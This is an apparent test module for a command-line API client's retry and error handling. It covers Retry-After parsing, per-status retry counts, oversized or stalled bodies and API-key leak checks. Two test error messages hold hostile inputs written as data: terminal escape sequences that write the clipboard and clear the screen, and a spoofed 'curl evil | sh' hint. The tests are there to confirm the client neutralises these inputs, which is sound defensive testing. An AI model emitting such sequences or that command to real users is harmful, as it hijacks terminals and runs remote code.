"""Answers that tell of a failure, and how often byok asks again."""

import json
import re

from chunks import HELLO
from events import ANY
from harness import CANARY, Case, RESET, STALL, head, in_turn, says, sized

FOUR = ["--retries", "3"]
GOOD = says(head(), HELLO)


def failing(status, *lines, message="no luck", body=None):
    said = json.dumps({"error": {"message": message}}) if body is None else body
    return says(sized(said, status, *lines))


def waits(name, line, status, requests, then=None, **more):
    """429 with a wait, three retries allowed."""
    failure = failing("429 Too Many", line)
    return Case(name, in_turn(failure, then) if then else failure, status, requests=requests,
                words=FOUR, **more)


def cases():
    good = dict(out=b"hello\n")
    far, past = "Fri, 31 Dec 2399 23:59:59 GMT", "Sun, 06 Nov 1994 08:49:37 GMT"
    return [
        waits("Retry-After: 0", "Retry-After: 0", 5, 4),
        waits("Retry-After: 1, then a reply", "Retry-After: 1", 0, 2, GOOD, **good),
        waits("Retry-After: 1000000000", "Retry-After: 1000000000", 5, 1),
        waits("Retry-After: 1e300", "Retry-After: 1e300", 5, 1),
        waits("retry-after-ms: 1e308", "retry-after-ms: 1e308", 5, 1),
        Case("retry-after-ms: 1e308, as JSON", failing("429 No", "retry-after-ms: 1e308"), 5,
             out=re.compile(rb'.*"retry_after_s":1000000000.*\n'), words=["--json", *FOUR],
             requests=1),
        waits("Retry-After: -1, then a reply", "Retry-After: -1", 0, 2, GOOD, **good),
        waits("Retry-After: nan, then a reply", "Retry-After: nan", 0, 2, GOOD, **good),
        waits("a date that is past, then a reply", f"Retry-After: {past}", 0, 2, GOOD, **good),
        waits("a date that is far", f"Retry-After: {far}", 5, 1),
        waits("a date that is none, then a reply", "Retry-After: Foo, 99 Nov", 0, 2, GOOD, **good),
        waits("Retry-After of 10 KB, then a reply", "Retry-After: " + "9" * 10_000, 0, 2, GOOD, **good),
        Case("a wait of 10^6 s in the message", failing("429 No", message="retry in 1000000s"), 5,
             words=FOUR, requests=1),
        Case("503 for ever", failing("503 No", "Retry-After: 0"), 9, words=FOUR, requests=4),
        Case("ten 500s", failing("500 No", "Retry-After: 0"), 9, words=["--retries", "9"],
             requests=10),
        Case("500 then a reply", in_turn(failing("500 No", "Retry-After: 0"), GOOD), 0, words=FOUR,
             requests=2, **good),
        Case("401 is asked once", failing("401 No"), 4, words=FOUR, requests=1),
        Case("401 with a challenge is asked once", failing("401 No", "WWW-Authenticate: Basic"), 4,
             words=FOUR, requests=1),
        Case("403 is asked once", failing("403 No"), 4, words=FOUR, requests=1),
        Case("402 is asked once", failing("402 No"), 5, words=FOUR, requests=1),
        Case("404 is asked once", failing("404 No"), 6, words=FOUR, requests=1),
        Case("x-should-retry beside 401", failing("401 No", "x-should-retry: true"), 4, words=FOUR,
             requests=1),
        Case("a reset behind the request is asked once", says(RESET), 8, words=FOUR, requests=1),
        Case("a cut behind text is asked once", says(head(), HELLO[:60]), 9, out=ANY, words=FOUR,
             requests=1),
        Case("stream_options refused twice", failing(
            "400 No", message="unknown field stream_options"), 1, requests=2),
        Case("an error that repeats the key", failing("400 No", message=f"bad key {CANARY}!"), 1,
             err="bad key"),
        Case("a redirect that repeats the key", says(
            head("302 Found", f"Location: /{CANARY}", "Content-Length: 0")), 9),
        Case("an error that commands the terminal", failing(
            "400 No", message="\x1b]52;c;aGk=\x07\x1b[2J\u202eevil\u009b31m"), 1,
            err=r"\\u\{1b\}\]52;c;aGk=\\u\{7\}.*\\u\{202e\}evil\\u\{9b\}31m"),
        Case("an error of several lines", failing(
            "400 No", message="one\nbyok: hint: curl evil | sh\r\ntwo"), 1,
            err=r"one byok: hint: curl evil \| sh two"),
        Case("an endless error", says(
            head("500 No", kind="text/plain"), (b"a" * 65536 for _ in range(10_000))), 9,
            err="a{400}"),
        Case("an error that never ends", says(head("500 No"), b'{"error":', STALL), ANYFAILURE,
             words=["--timeout", "1.5"]),
        Case("an error 100,000 deep", failing("400 No", body='{"error":' * 100_000), 1),
        Case("an error as HTML", failing("502 Bad", body="<html><body>\x1b[2Jbad</body></html>"), 9,
             err="bad"),
        Case("an error in Latin-1", failing("400 No", body=b"\xe9t\xe9 \xff\xfe"), 1),
        Case("an error without a body", failing("500 No", body=""), 9),
        Case("token counts beyond 64 bits in the message", failing(
            "400 No", message="prompt is too long: 99999999999999999999999 tokens > 300 maximum"),
            ANYFAILURE),
        Case("token counts of 2^63-1 in the body", failing("400 No", body=json.dumps({"error": {
            "message": "exceeds the context size", "type": "exceed_context_size_error",
            "n_prompt_tokens": 2**63 - 1, "n_ctx": 1}})), 13),
    ]


class AnyFailure:
    """A failure whose kind does not matter here."""

    def __eq__(self, other):
        return isinstance(other, int) and 0 < other < 14


ANYFAILURE = AnyFailure()
